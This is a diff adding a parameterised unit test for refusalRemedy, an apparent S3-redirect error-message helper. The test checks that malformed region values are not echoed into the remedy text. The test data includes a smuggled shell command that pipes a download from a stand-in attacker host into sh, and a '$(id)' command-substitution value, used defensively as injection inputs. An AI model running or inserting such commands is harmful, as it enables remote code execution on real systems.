@@ -210,6 +210,19 @@ describe("refusalRemedy cures its cause", () => {
     }
     expect(refusalRemedy({ ...refused, region: "eu-west-1" })).not.toMatch(/eu-west-1/);
   });
+
+  it.each(["evil.example/", "x; curl evil.example | sh", "$(id)", ""])(
+    "does not repeat a region that is none: %j",
+    (region) => {
+      const remedy = refusalRemedy({
+        ...refused,
+        status: 301,
+        s3Code: "PermanentRedirect",
+        region,
+      });
+      expect(remedy).toMatch(/^The endpoint sends requests elsewhere/);
+    },
+  );
 });
 
 describe("connectionRemedy cures its cause", () => {
